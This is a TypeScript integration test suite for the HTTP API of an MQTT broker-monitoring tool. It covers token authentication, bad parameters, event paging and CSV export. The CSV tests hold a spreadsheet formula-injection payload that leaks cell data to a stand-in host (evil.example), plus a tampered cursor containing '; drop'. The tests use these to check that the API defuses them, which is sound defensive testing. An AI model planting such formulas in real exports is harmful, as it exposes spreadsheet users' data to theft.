import { execFile } from "node:child_process";
import { createHash } from "node:crypto";
import { mkdtemp, writeFile } from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { promisify } from "node:util";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import mqtt from "mqtt";
import { sql } from "drizzle-orm";
import { migrateDatabase, openDatabase, queryRows } from "@/db/client";
import { ROOT, startApp, type RunningApp } from "../helpers/app";
import { createServerDatabase } from "../helpers/db";
import { waitFor } from "../helpers/ports";

/**
 * The HTTP API as a script or a dashboard uses it: bearer tokens (the bootstrap one and tokens
 * made with `npm run token`), the events of real MQTT clients of the bundled broker, the
 * parameters an operator mistypes, and the ClientIDs and CSV cells devices get wrong.
 */
const BOOTSTRAP = "api-test-bootstrap-token";
const PLANT_A_PASSWORD = "pl4nt-A-s3cret-that-must-never-be-served";
const run = promisify(execFile);

type ApiEvent = {
  id: number;
  ts: string;
  clientId: string | null;
  type: string;
  reason: string | null;
  username: string | null;
} & Record<string, unknown>;
type EventPage = { events: ApiEvent[]; nextCursor: string | null };
type ApiError = { error: { code: string; message: string; parameter?: string } };

/** `npm run token -- …` against a data dir / database, as an operator runs it. */
async function tokenCli(env: Record<string, string | undefined>, ...args: string[]) {
  const childEnv: NodeJS.ProcessEnv = { ...process.env, ...env };
  for (const key of Object.keys(childEnv)) if (childEnv[key] === undefined) delete childEnv[key];
  const { stdout, stderr } = await run("npm", ["run", "--silent", "token", "--", ...args], {
    cwd: ROOT,
    env: childEnv,
  });
  return { stdout: stdout.trim(), stderr };
}

/** RFC 4180 as csv-stringify writes it: quoted cells may hold commas, quotes ("") and newlines. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c !== '"') cell += c;
      else if (text[i + 1] === '"') {
        cell += '"';
        i++;
      } else quoted = false;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(cell);
      cell = "";
    } else if (c === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
    } else cell += c;
  }
  if (cell !== "" || row.length) rows.push([...row, cell]);
  return rows;
}

/** The same instant written with another zone offset, e.g. `2026-11-23T23:40:00.123+05:30`. */
function withOffset(date: Date, offsetMinutes: number): string {
  const shifted = new Date(date.getTime() + offsetMinutes * 60_000).toISOString().slice(0, -1);
  const sign = offsetMinutes < 0 ? "-" : "+";
  const abs = Math.abs(offsetMinutes);
  return `${shifted}${sign}${String(Math.floor(abs / 60)).padStart(2, "0")}:${String(abs % 60).padStart(2, "0")}`;
}

describe("HTTP API", () => {
  let app: RunningApp;
  let dropDatabase: (() => Promise<void>) | null = null;
  let databaseUrl: string | undefined;
  /** what `npm run token` printed and stored while the app was stopped */
  const cli = {
    viewerToken: "",
    revokedToken: "",
    revokedId: 0,
    list: "",
    storedRows: [] as string[],
    storedHashes: [] as string[],
  };

  async function api(pathAndQuery: string, token: string | null = BOOTSTRAP): Promise<Response> {
    return fetch(`${app.url}${pathAndQuery}`, { headers: token ? { authorization: `Bearer ${token}` } : {} });
  }

  async function apiJson<T>(pathAndQuery: string, token?: string): Promise<T> {
    const res = await api(pathAndQuery, token);
    if (!res.ok) throw new Error(`${pathAndQuery}: ${res.status} ${await res.text()}`);
    return (await res.json()) as T;
  }

  function clientPath(clientId: string, query = ""): string {
    return `/api/clients/${encodeURIComponent(clientId)}/events${query}`;
  }

  async function clientEvents(clientId: string): Promise<ApiEvent[]> {
    return (await apiJson<EventPage>(clientPath(clientId, "?broker=bundled&limit=1000"))).events;
  }

  /** A device connects to the bundled broker and disconnects cleanly: a `connected` and a `disconnected` event. */
  async function connectAndLeave(clientId: string, opts: mqtt.IClientOptions = {}): Promise<void> {
    const client = await mqtt.connectAsync(app.mqttUrl!, { clientId, reconnectPeriod: 0, ...opts });
    await client.endAsync();
  }

  async function bothEventsStored(clientId: string): Promise<ApiEvent[]> {
    return waitFor(
      `connected + disconnected of ${JSON.stringify(clientId)}`,
      async () => {
        const events = await clientEvents(clientId);
        return events.some((e) => e.type === "disconnected") && events.some((e) => e.type === "connected")
          ? events
          : null;
      },
      15_000,
      100,
    );
  }

  beforeAll(async () => {
    const dataDir = await mkdtemp(path.join(os.tmpdir(), "bw-api-"));
    if (process.env.DATABASE_URL) {
      const server = await createServerDatabase();
      databaseUrl = server.url;
      dropDatabase = server.drop;
    }
    // Tokens are made before the first start, with the app stopped, as PGlite requires.
    const env = { BROKERWATCH_DATA_DIR: dataDir, DATABASE_URL: databaseUrl };
    cli.viewerToken = (await tokenCli(env, "create", "grafana reader")).stdout;
    const doomed = await tokenCli(env, "create", "leaked laptop", "--admin");
    cli.revokedToken = doomed.stdout;
    cli.revokedId = Number(/token (\d+) "leaked laptop"/.exec(doomed.stderr)?.[1]);
    await tokenCli(env, "revoke", String(cli.revokedId));
    cli.list = (await tokenCli(env, "list")).stdout;

    const database = await openDatabase({ url: databaseUrl, dataDir });
    try {
      await migrateDatabase(database);
      const rows = await queryRows<{ row: string; token_hash: string }>(
        database.db,
        sql`select t::text as row, token_hash from api_tokens t order by id`,
      );
      cli.storedRows = rows.map((r) => r.row);
      cli.storedHashes = rows.map((r) => r.token_hash);
    } finally {
      await database.close();
    }

    const config = path.join(dataDir, "brokerwatch.yaml");
    await writeFile(
      config,
      [
        "brokers:",
        "  - name: plant-a",
        "    url: mqtt://127.0.0.1:1",
        "    dialect: mosquitto",
        "    username: monitor",
        "    password: ${PLANT_A_PASSWORD}",
        "",
      ].join("\n"),
    );
    app = await startApp({
      dataDir,
      database: databaseUrl ? "auto" : "pglite",
      env: {
        DATABASE_URL: databaseUrl,
        BROKERWATCH_API_TOKEN: BOOTSTRAP,
        BROKERWATCH_CONFIG: config,
        PLANT_A_PASSWORD,
      },
    });
  });

  afterAll(async () => {
    await app?.stop();
    await dropDatabase?.();
  });

  describe("authentication", () => {
    const endpoints = ["/api/events", "/api/clients/sensor-1/events", "/api/brokers", "/api/brokers/bundled/gaps"];

    for (const endpoint of endpoints) {
      it(`refuses ${endpoint} without a token with 401 and a JSON error`, async () => {
        const res = await api(endpoint, null);
        expect(res.status).toBe(401);
        expect(res.headers.get("content-type")).toMatch(/^application\/json/);
        const body = (await res.json()) as ApiError;
        expect(body).toEqual({ error: { code: "unauthorized", message: expect.stringContaining("Bearer") } });
      });
    }

    it("refuses a wrong token, a look-alike stored token and a non-Bearer scheme with 401", async () => {
      for (const authorization of [
        `Bearer ${BOOTSTRAP}x`,
        `Bearer ${BOOTSTRAP.toUpperCase()}`,
        `Bearer bw_${"A".repeat(43)}`,
        `Basic ${Buffer.from(`admin:${BOOTSTRAP}`).toString("base64")}`,
        "Bearer",
      ]) {
        const res = await fetch(`${app.url}/api/events`, { headers: { authorization } });
        expect(res.status, authorization).toBe(401);
        expect(((await res.json()) as ApiError).error.code).toBe("unauthorized");
      }
    });

    it("refuses a token as long as the bootstrap one but with a non-ASCII character with 401, not 500", async () => {
      // Same number of characters, one more byte: a byte-length mismatch must not reach timingSafeEqual.
      const lookalike = `${BOOTSTRAP.slice(0, -1)}ñ`;
      expect(lookalike.length).toBe(BOOTSTRAP.length);
      const res = await api("/api/events", lookalike);
      expect(res.status).toBe(401);
      expect(((await res.json()) as ApiError).error.code).toBe("unauthorized");
    });

    it("accepts the bootstrap token from BROKERWATCH_API_TOKEN", async () => {
      expect((await api("/api/events?limit=1")).status).toBe(200);
    });

    it("leaves GET /api/health open for load balancers", async () => {
      expect((await api("/api/health", null)).status).toBe(200);
    });
  });

  describe("tokens made with npm run token on the stopped app", () => {
    it("prints a bw_ token once and lists it by prefix only", () => {
      expect(cli.viewerToken).toMatch(/^bw_[A-Za-z0-9_-]{43}$/);
      expect(cli.list).toContain("grafana reader");
      expect(cli.list).toContain(cli.viewerToken.slice(0, 10));
      expect(cli.list).not.toContain(cli.viewerToken);
      expect(cli.list).toMatch(/leaked laptop\s+admin\s+\S+\s+\S+\s+never\s+\d{4}-/);
    });

    it("lets the app accept the created token after it starts", async () => {
      const res = await api("/api/events?limit=1", cli.viewerToken);
      expect(res.status).toBe(200);
      expect((await api("/api/brokers", cli.viewerToken)).status).toBe(200);
    });

    it("refuses a revoked token with 401", async () => {
      const res = await api("/api/events?limit=1", cli.revokedToken);
      expect(res.status).toBe(401);
      expect(((await res.json()) as ApiError).error).toMatchObject({ code: "unauthorized" });
    });

    it("refuses to open an embedded database another process has open (two PGlite processes corrupt it)", async () => {
      const dir = await mkdtemp(path.join(os.tmpdir(), "bw-held-"));
      const holder = await openDatabase({ dataDir: dir });
      try {
        const failure = await tokenCli(
          { BROKERWATCH_DATA_DIR: dir, DATABASE_URL: undefined },
          "create",
          "while running",
        ).then(
          () => null,
          (err: { code: number; stderr: string }) => err,
        );
        expect(failure?.code).toBe(1);
        expect(failure?.stderr).toMatch(/in use .*stop brokerwatch first/);
      } finally {
        await holder.close();
      }
    });

    (process.env.DATABASE_URL || process.env.REQUIRE_ALL === "1" ? it : it.skip)(
      "on Postgres, creates and revokes a token while the app runs, taking effect at once",
      async () => {
        const env = { BROKERWATCH_DATA_DIR: app.dataDir, DATABASE_URL: databaseUrl };
        const created = await tokenCli(env, "create", "live");
        expect((await api("/api/events?limit=1", created.stdout)).status).toBe(200);
        const id = /token (\d+) "live"/.exec(created.stderr)![1];
        expect((await tokenCli(env, "revoke", id)).stdout).toBe(`revoked token ${id} "live"`);
        expect((await api("/api/events?limit=1", created.stdout)).status).toBe(401);
      },
    );

    it("stores only a hash: the raw token appears nowhere in the api_tokens table", () => {
      expect(cli.storedRows).toHaveLength(2);
      for (const token of [cli.viewerToken, cli.revokedToken]) {
        const secretPart = token.slice(10); // what follows the displayed prefix
        for (const row of cli.storedRows) {
          expect(row).not.toContain(token);
          expect(row).not.toContain(secretPart);
        }
      }
      expect(cli.storedHashes).toEqual(
        [cli.viewerToken, cli.revokedToken].map((t) => createHash("sha256").update(t).digest("hex")),
      );
    });
  });

  describe("bad parameters", () => {
    const cases: [string, string, string][] = [
      ["/api/events?limit=0", "limit", "limit=0"],
      ["/api/events?limit=abc", "limit", "limit=abc"],
      ["/api/events?limit=1.5", "limit", "a fractional limit"],
      ["/api/events?limit=100000", "limit", "a limit past the maximum"],
      ["/api/events?from=yesterday", "from", "from=yesterday"],
      ["/api/events?to=2026-11-23T08:00:00", "to", "an RFC 3339 time without a zone"],
      ["/api/events?type=exploded", "type", "type=exploded"],
      ["/api/events?reason=bogus", "reason", "reason=bogus"],
      ["/api/events?limt=5", "limt", "a misspelt parameter (limt=5)"],
      ["/api/events?cursor=not-a-cursor", "cursor", "a cursor the API never returned"],
      [
        `/api/events?cursor=${Buffer.from("2026-01-01T00:00:00.000Z|1; drop").toString("base64url")}`,
        "cursor",
        "a tampered cursor",
      ],
      ["/api/events?type=connected&type=disconnected", "type", "a repeated parameter"],
      ["/api/events?format=xlsx", "format", "format=xlsx"],
      ["/api/clients/sensor-1/events?limit=0", "limit", "limit=0 on a client's history"],
      ["/api/clients/sensor-1/events?format=csv", "format", "a parameter the client endpoint does not take"],
      ["/api/brokers/bundled/gaps?from=last-week", "from", "from=last-week on gaps"],
    ];

    for (const [request, parameter, what] of cases) {
      it(`answers ${what} with 400 naming ${parameter}`, async () => {
        const res = await api(request);
        expect(res.status).toBe(400);
        const body = (await res.json()) as ApiError;
        expect(body.error.code).toBe("bad_request");
        expect(body.error.parameter).toBe(parameter);
        expect(body.error.message).toContain(parameter);
      });
    }
  });

  it("answers a ClientID that is not valid percent-encoding with a JSON 400, not Next's plain-text 500", async () => {
    // A truncated UTF-8 escape, as a hand-built dashboard link produces. Next decodes dynamic
    // segments before the route runs and answers `500 Internal Server Error` in text/plain.
    for (const segment of ["%E0%A4%A", "%", "100%"]) {
      const res = await api(`/api/clients/${segment}/events`);
      expect(res.status, segment).toBe(400);
      expect(res.headers.get("content-type"), segment).toMatch(/^application\/json/);
      expect(((await res.json()) as ApiError).error.code).toBe("bad_request");
    }
  });

  describe("events of real clients", () => {
    it("pages through every event exactly once, newest first, while new events keep arriving", async () => {
      const since = new Date(Date.now() - 1000).toISOString();
      const ids = Array.from({ length: 12 }, (_, i) => `pager-${String(i).padStart(2, "0")}`);
      for (const id of ids) await connectAndLeave(id);
      await Promise.all(ids.map((id) => bothEventsStored(id)));

      const seen: ApiEvent[] = [];
      let cursor: string | null = null;
      let pages = 0;
      do {
        const query: string = `?from=${encodeURIComponent(since)}&limit=5${cursor ? `&cursor=${cursor}` : ""}`;
        const page: EventPage = await apiJson<EventPage>(`/api/events${query}`);
        seen.push(...page.events);
        cursor = page.nextCursor;
        pages++;
        if (pages <= 2) {
          // devices keep connecting while the operator pages
          await connectAndLeave(`latecomer-${pages}`);
          await bothEventsStored(`latecomer-${pages}`);
        }
      } while (cursor && pages < 50);

      const ids_ = seen.map((e) => e.id);
      expect(new Set(ids_).size).toBe(ids_.length);
      for (let i = 1; i < seen.length; i++) {
        const [a, b] = [seen[i - 1], seen[i]];
        expect(a.ts > b.ts || (a.ts === b.ts && a.id > b.id), `${a.ts}#${a.id} before ${b.ts}#${b.id}`).toBe(true);
      }
      for (const id of ids) {
        expect(
          seen
            .filter((e) => e.clientId === id)
            .map((e) => e.type)
            .sort(),
        ).toEqual(["connected", "disconnected"]);
      }
      // newer than the first page: a keyset cursor never walks back into them
      expect(seen.filter((e) => e.clientId?.startsWith("latecomer-"))).toEqual([]);
      expect(pages).toBeGreaterThanOrEqual(5);
    });

    it("filters by from=1h, and by RFC 3339 from/to whatever zone offset they are written in", async () => {
      await connectAndLeave("window-before");
      await bothEventsStored("window-before");
      await new Promise((r) => setTimeout(r, 50));
      const boundary = new Date();
      await new Promise((r) => setTimeout(r, 50));
      await connectAndLeave("window-after");
      await bothEventsStored("window-after");

      const clientsIn = async (query: string) =>
        new Set((await apiJson<EventPage>(`/api/events?limit=1000&${query}`)).events.map((e) => e.clientId));

      const lastHour = await clientsIn("from=1h");
      expect(lastHour.has("window-before") && lastHour.has("window-after")).toBe(true);

      const untilBoundary = await clientsIn(`to=${encodeURIComponent(boundary.toISOString())}`);
      expect(untilBoundary.has("window-before")).toBe(true);
      expect(untilBoundary.has("window-after")).toBe(false);

      // `+` must be percent-encoded in a query string; the same instant in India and in New York
      for (const offset of [330, -300]) {
        const sinceBoundary = await clientsIn(`from=${encodeURIComponent(withOffset(boundary, offset))}`);
        expect(sinceBoundary.has("window-after"), withOffset(boundary, offset)).toBe(true);
        expect(sinceBoundary.has("window-before")).toBe(false);
      }

      const olderThanAnHour = await clientsIn("to=1h");
      expect(olderThanAnHour.has("window-before")).toBe(false);
    });

    it("filters by type and reason", async () => {
      await connectAndLeave("filter-me");
      await bothEventsStored("filter-me");
      const normal = await apiJson<EventPage>("/api/events?type=disconnected&reason=normal&limit=1000");
      expect(normal.events.length).toBeGreaterThan(0);
      expect(normal.events.every((e) => e.type === "disconnected" && e.reason === "normal")).toBe(true);
      expect(normal.events.some((e) => e.clientId === "filter-me")).toBe(true);
      const connected = await apiJson<EventPage>("/api/events?type=connected&clientId=filter-me");
      expect(connected.events.map((e) => e.type)).toEqual(["connected"]);
    });
  });

  describe("a client's history with a ClientID a device chose badly", () => {
    const hostileIds = [
      "device with spaces",
      `quote"d 'device'`,
      "plant/line-4/sensor",
      "100%",
      "50%25",
      "a+b",
      "#hash",
      "what?x=1&y=2",
      "back\\slash",
      "ünïcødé-Gerät-温度计",
      "sensor-🚀-🌡️",
    ];

    beforeAll(async () => {
      for (const id of hostileIds) await connectAndLeave(id);
    });

    for (const clientId of hostileIds) {
      it(`returns the history of ${JSON.stringify(clientId)}, URL-encoded, and of no one else`, async () => {
        const events = await bothEventsStored(clientId);
        const body = await apiJson<EventPage & { clientId: string }>(clientPath(clientId));
        expect(body.clientId).toBe(clientId);
        expect(body.events.length).toBeGreaterThanOrEqual(2);
        expect(body.events.every((e) => e.clientId === clientId)).toBe(true);
        expect(events.map((e) => e.type)).toEqual(expect.arrayContaining(["connected", "disconnected"]));
      });
    }

    it("returns an empty history, not an error, for a ClientID never seen", async () => {
      const body = await apiJson<EventPage & { clientId: string }>(clientPath("never-connected 🚫"));
      expect(body).toEqual({ clientId: "never-connected 🚫", events: [], nextCursor: null });
    });
  });

  describe("CSV export", () => {
    const COLUMNS = [
      "ts",
      "receivedAt",
      "broker",
      "node",
      "clientId",
      "type",
      "reason",
      "address",
      "port",
      "username",
      "protocolVersion",
      "cleanStart",
      "keepalive",
      "sessionSeconds",
      "raw",
    ];
    const FORMULA = `=HYPERLINK("http://evil.example/?leak="&A1,"click me")`;

    beforeAll(async () => {
      await connectAndLeave(`csv, "quoted"`);
      await connectAndLeave("csv\nnewline");
      await connectAndLeave(FORMULA);
      await connectAndLeave("@SUM(1+1)");
      await connectAndLeave("csv-plain", { username: "-2+3" });
      for (const id of [`csv, "quoted"`, "csv\nnewline", FORMULA, "@SUM(1+1)", "csv-plain"]) {
        await bothEventsStored(id);
      }
    });

    async function csvFor(query: string): Promise<{ res: Response; text: string; rows: string[][] }> {
      const res = await api(`/api/events?format=csv&${query}`);
      const text = await res.text();
      return { res, text, rows: parseCsv(text) };
    }

    it("streams text/csv as a download with a header and one row per event", async () => {
      const since = encodeURIComponent(new Date(Date.now() - 3600_000).toISOString());
      const { res, rows } = await csvFor(`from=${since}`);
      expect(res.status).toBe(200);
      expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
      expect(res.headers.get("content-disposition")).toMatch(/^attachment; filename="brokerwatch-events-.*\.csv"$/);
      expect(rows[0]).toEqual(COLUMNS);
      const json = await apiJson<EventPage>(`/api/events?from=${since}&limit=1000`);
      // events may still arrive between the two requests, never fewer
      expect(rows.length - 1).toBeGreaterThanOrEqual(json.events.length);
      expect(rows.slice(1).every((r) => r.length === COLUMNS.length)).toBe(true);
    });

    it("quotes a ClientID with a comma and quotes exactly as RFC 4180 says", async () => {
      const { text, rows } = await csvFor(`clientId=${encodeURIComponent(`csv, "quoted"`)}`);
      expect(rows).toHaveLength(3);
      expect(text).toContain(`,"csv, ""quoted""",`);
      expect(rows.slice(1).map((r) => r[COLUMNS.indexOf("clientId")])).toEqual([`csv, "quoted"`, `csv, "quoted"`]);
    });

    it("keeps a ClientID with a newline in one quoted cell, so the row count stays right", async () => {
      const { text, rows } = await csvFor(`clientId=${encodeURIComponent("csv\nnewline")}`);
      expect(text).toContain(`,"csv\nnewline",`);
      expect(rows).toHaveLength(3);
      expect(
        rows
          .slice(1)
          .map((r) => r[COLUMNS.indexOf("type")])
          .sort(),
      ).toEqual(["connected", "disconnected"]);
    });

    it(`defuses a ClientID like =HYPERLINK(…) with a leading ' so a spreadsheet shows it instead of running it`, async () => {
      const { text, rows } = await csvFor(`clientId=${encodeURIComponent(FORMULA)}`);
      expect(rows).toHaveLength(3);
      for (const row of rows.slice(1)) expect(row[COLUMNS.indexOf("clientId")]).toBe(`'${FORMULA}`);
      expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click me"")",`);
      // JSON is not a spreadsheet: there the ClientID is exactly what the device sent
      const json = await apiJson<EventPage>(`/api/events?clientId=${encodeURIComponent(FORMULA)}`);
      expect(json.events.map((e) => e.clientId)).toEqual([FORMULA, FORMULA]);
    });

    it("defuses formulas starting with @ in a ClientID and with - in a username", async () => {
      const at = await csvFor(`clientId=${encodeURIComponent("@SUM(1+1)")}`);
      expect(at.rows.slice(1).map((r) => r[COLUMNS.indexOf("clientId")])).toEqual(["'@SUM(1+1)", "'@SUM(1+1)"]);
      const minus = await csvFor("clientId=csv-plain");
      expect(minus.rows.slice(1).map((r) => r[COLUMNS.indexOf("username")])).toEqual(["'-2+3", "'-2+3"]);
    });
  });

  describe("brokers", () => {
    it("lists the bundled broker and the configured one, and never a password", async () => {
      const res = await api("/api/brokers", cli.viewerToken);
      const text = await res.text();
      const body = JSON.parse(text) as { brokers: Record<string, unknown>[] };
      expect(body.brokers.map((b) => b.name)).toEqual(expect.arrayContaining(["bundled", "plant-a"]));
      expect(body.brokers.find((b) => b.name === "plant-a")).toMatchObject({
        url: "mqtt://127.0.0.1:1",
        dialect: "mosquitto",
      });
      expect(text).not.toContain(PLANT_A_PASSWORD);
      const keys: string[] = [];
      JSON.parse(text, (key, value) => (keys.push(key), value));
      expect(keys.filter((k) => /password|secret/i.test(k))).toEqual([]);
    });

    it("answers the gaps of a known broker, and 404 with a JSON error for an unknown one", async () => {
      const gaps = await apiJson<{ broker: string; gaps: unknown[] }>("/api/brokers/bundled/gaps");
      expect(gaps.broker).toBe("bundled");
      expect(Array.isArray(gaps.gaps)).toBe(true);

      const res = await api("/api/brokers/no-such-broker/gaps");
      expect(res.status).toBe(404);
      expect(await res.json()).toEqual({
        error: { code: "not_found", message: expect.stringContaining("no-such-broker") },
      });
    });
  });
});
